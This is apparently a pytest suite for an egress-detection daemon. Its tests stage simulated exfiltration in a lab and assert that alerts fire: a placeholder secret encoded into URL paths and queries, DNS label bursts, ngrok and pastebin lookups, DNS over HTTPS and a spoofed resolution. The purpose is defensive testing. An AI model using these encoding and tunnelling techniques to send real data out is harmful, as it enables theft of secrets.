"""Each kind of attack of docs/detection.md through live rules and the running daemon, at default settings.

Here are those that no other file has. The rest: DNS tunnels by iodine and dns2tcp in test_tunnels.py; uploads, drips,
beacons, address literals and odd ports in test_flow_shape.py; DNS over TLS and fronting in test_names.py.
"""

import base64
import os

import pytest
from conftest import RESOLVERS, wait_until

SECRET = b"export AWS_SECRET_ACCESS_KEY=not-a-real-key; ssh-rsa AAAAB3NzaC1yc2E user@host; " * 3


def encoded(data):
    """Data as a part of an address."""
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def flag(running, kind):
    """The first flag of a kind, within five seconds."""
    return wait_until(lambda: running.alerts(kind), 5, f"the flag {kind}")[0]


def evidence(event):
    """What a flag rests on."""
    return event["egress"]["flag"]["evidence"]


def names_of(tmp_path, category, *names):
    """Categories in which these names are of this one."""
    path = tmp_path / f"{category}.txt"
    path.write_text("\n".join(names) + "\n")
    return [{"builtin": "default"}, {"category": category, "path": str(path), "format": "domains"}]


@pytest.mark.parametrize("data", [SECRET, os.urandom(192)], ids=["text", "noise"])
@pytest.mark.parametrize(
    "kind,ordinary,carrier",
    [("encoded-path", "guide/index.html?page=2", "a/"), ("encoded-query", "find?q=how+to+sort&page=2", "c?d=")],
    ids=["path", "query"],
)
def test_encoded_data_is_flagged_on_the_very_request(lab, daemon, data, kind, ordinary, carrier):
    running = daemon()
    assert lab.curl("-4", f"http://docs-site.org/{ordinary}")[0] == 0
    assert running.alerts(kind) == []
    lab.curl("-4", f"http://docs-site.org/{carrier}{encoded(data)}")
    alert = flag(running, kind)
    assert alert["egress"]["destination"]["key"] == "docs-site.org"
    assert evidence(alert)["characters"] == len(encoded(data))
    # What was sent stands nowhere.
    assert encoded(data)[:40] not in running.configuration_path.with_name("eve.json").read_text()


def test_burst_of_labels_under_one_domain_is_flagged(lab, daemon):
    running = daemon()
    # The count of different names is an estimate: far below and far above the 200 that are flagged.
    questions = [word for number in range(400) for word in (f"n{number:x}.docs-site.org", "A")]
    lab.agent("ask", RESOLVERS[0], *questions[:200], timeout=60)
    assert running.alerts("label-burst") == []
    lab.agent("ask", RESOLVERS[0], *questions[200:], timeout=60)
    alert = flag(running, "label-burst")
    assert evidence(alert)["domain"] == "docs-site.org"
    assert 150 < evidence(alert)["distinct_names"] < 420


@pytest.mark.parametrize("category", ["paste", "webhook-and-tunnel"])
def test_outlet_is_flagged_where_its_category_is(lab, daemon, tmp_path, category):
    running = daemon(
        categories=names_of(tmp_path, category, "api-service.com"),
        agentTypes={"research": {"categoryActions": {category: "flag"}}},
    )
    assert lab.curl("https://docs-site.org/")[0] == 0
    assert lab.curl("https://api-service.com/")[0] == 0  # a flag stops nobody
    alert = flag(running, "category-flagged")
    assert evidence(alert)["category"] == category and evidence(alert)["entry"] == "api-service.com"
    assert alert["egress"]["destination"]["key"] == "api-service.com"
    assert len(running.alerts("category-flagged")) == 1


def test_builtin_tunnelling_service_is_flagged_at_the_question(lab, daemon):
    running = daemon(agentTypes={"research": {"categoryActions": {"webhook-and-tunnel": "flag", "paste": "flag"}}})
    lab.agent("ask", RESOLVERS[0], "a1b2c3.ngrok.io", "A", "pastebin.com", "A")
    wait_until(lambda: len(running.alerts("category-flagged")) == 2, 5, "two flags")
    assert {evidence(event)["category"] for event in running.alerts("category-flagged")} == {
        "webhook-and-tunnel",
        "paste",
    }


def test_dns_over_https_is_flagged_by_the_resolvers_name(lab, daemon, tmp_path):
    running = daemon(categories=names_of(tmp_path, "doh-resolver", "api-service.com"))
    assert lab.curl("https://docs-site.org/")[0] == 0
    assert running.alerts("hidden-dns") == []
    assert lab.curl("https://api-service.com/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB")[0] == 0
    alert = flag(running, "hidden-dns")
    assert evidence(alert)["transport"] == "DNS over HTTPS"
    assert evidence(alert)["resolver"] == "api-service.com"


def test_false_name_is_flagged(lab, daemon):
    running = daemon()
    lab.curl("-k", "https://docs-site.org/", "--resolve", "docs-site.org:443:93.184.217.40")
    alert = flag(running, "name-unverified")
    assert alert["egress"]["destination"]["key"] == "93.184.217.40"
